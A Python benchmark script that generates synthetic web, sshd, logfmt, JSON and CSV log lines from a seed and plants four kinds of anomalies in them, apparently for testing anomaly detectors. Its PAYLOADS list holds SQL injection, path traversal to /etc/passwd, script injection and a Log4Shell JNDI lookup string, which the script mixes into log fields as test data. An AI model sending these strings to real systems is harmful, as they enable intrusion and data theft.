"""Made-up logs of five formats, and four kinds of anomalies planted in them; every line is a function of the seed.

python benchmarks/log_lines.py FORMAT LINES [--seed N] [--anomalies]    lines to stdout, with their kind before a tab
"""

import argparse
import json
import random
from collections.abc import Callable

METHODS, PATHS = ["GET"] * 8 + ["POST", "HEAD"], ["/", "/index.html", "/login", "/api/v1/items", "/static/app.js"]
AGENTS = ["Mozilla/5.0 (X11; Linux x86_64)", "curl/8.5.0", "Googlebot/2.1"]
USERS = ["anna", "boris", "chen", "dora", "emil"]
SERVICES = ["auth", "billing", "search", "mail"]
PAYLOADS = ["' OR '1'='1' --", "../../../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://198.51.100.7/a}"]
RARE = ["TRACK", "599", "zz-unknown", "0xdeadbeef", "NaN"]


def access(rng: random.Random) -> list[str]:
    """An entry of a web server's log, by fields that are joined by spaces."""
    size = str(rng.randrange(200, 60_000))
    request = f'"{rng.choice(METHODS)} {rng.choice(PATHS)} HTTP/1.1"'
    status = rng.choice(["200"] * 9 + ["304", "404"])
    return [_address(rng), "-", rng.choice(USERS), f"[{_time(rng)}]", request, status, size, f'"{rng.choice(AGENTS)}"']


def sshd(rng: random.Random) -> list[str]:
    """A line of a system's log."""
    what = rng.choice(["Accepted publickey for", "Accepted password for", "Failed password for"])
    port = str(rng.randrange(1024, 65536))
    return [
        _time(rng),
        "host-1",
        f"sshd[{rng.randrange(300, 9000)}]:",
        what,
        rng.choice(USERS),
        "from",
        _address(rng),
        "port",
        port,
    ]


def logfmt(rng: random.Random) -> list[str]:
    """Pairs of a key and a value."""
    level = rng.choice(["info"] * 8 + ["warn"])
    pairs = {"ts": _time(rng), "level": level, "svc": rng.choice(SERVICES), "user": rng.choice(USERS)}
    pairs |= {"ms": str(rng.randrange(1, 900)), "ok": rng.choice(["true"] * 9 + ["false"])}
    return [f"{key}={value}" for key, value in pairs.items()]


def objects(rng: random.Random) -> list[str]:
    """A JSON object, by its members."""
    fields: dict[str, str | int] = {"time": _time(rng), "service": rng.choice(SERVICES), "method": rng.choice(METHODS)}
    fields |= {"path": rng.choice(PATHS), "status": rng.choice([200] * 9 + [404]), "bytes": rng.randrange(100, 9000)}
    return [f"{json.dumps(key)}: {json.dumps(value)}" for key, value in fields.items()]


def table(rng: random.Random) -> list[str]:
    """A row of measurements."""
    sensor = f"s{rng.randrange(1, 9)}"
    return [
        _time(rng),
        sensor,
        f"{rng.gauss(21, 2):.1f}",
        f"{rng.gauss(55, 6):.0f}%",
        rng.choice(["ok"] * 9 + ["low"]),
        rng.choice(["A", "B"]),
    ]


FORMATS: dict[str, tuple[Callable[[random.Random], list[str]], str, str, str]] = {
    "access": (access, "", " ", ""),
    "sshd": (sshd, "", " ", ""),
    "logfmt": (logfmt, "", " ", ""),
    "json": (objects, "{", ", ", "}"),
    "csv": (table, "", ",", ""),
}
KINDS = ("swapped", "rare", "truncated", "payload")


def usual_line(form: str, rng: random.Random) -> str:
    """A line as nearly all are."""
    fields, begin, between, end = FORMATS[form]
    return begin + between.join(fields(rng)) + end


def odd_line(form: str, kind: str, rng: random.Random) -> str:
    """A line with an anomaly of a kind."""
    make, begin, between, end = FORMATS[form]
    fields = make(rng)
    line = begin + between.join(fields) + end
    if kind == "truncated":
        return line[: rng.randrange(len(line) // 3, len(line) - 3)]
    if kind == "swapped":
        while True:
            one, other = sorted(rng.sample(range(len(fields)), 2))
            if fields[one] != fields[other]:
                break
        fields[one], fields[other] = fields[other], fields[one]
    else:
        place = rng.randrange(1, len(fields))
        key, sep, value = fields[place].rpartition(": " if form == "json" else "=" if form == "logfmt" else "\0")
        bare = value.strip('"')
        new = rng.choice(RARE) if kind == "rare" else f"{bare}{rng.choice(PAYLOADS)}"
        fields[place] = key + sep + (json.dumps(new) if form == "json" else new)
    return begin + between.join(fields) + end


def _address(rng: random.Random) -> str:
    return f"192.0.2.{rng.randrange(1, 255)}"


def _time(rng: random.Random) -> str:
    day = f"2026-{rng.randrange(1, 13):02}-{rng.randrange(1, 29):02}"
    return f"{day}T{rng.randrange(24):02}:{rng.randrange(60):02}:{rng.randrange(60):02}Z"


def main() -> None:
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("form", choices=FORMATS)
    parser.add_argument("lines", type=int)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--anomalies", action="store_true", help="every line is one, and its kind stands before a tab")
    args = parser.parse_args()
    rng = random.Random(f"{args.form} {args.seed}")
    for number in range(args.lines):
        kind = KINDS[number % len(KINDS)]
        print(f"{kind}\t{odd_line(args.form, kind, rng)}" if args.anomalies else usual_line(args.form, rng))


if __name__ == "__main__":
    main()
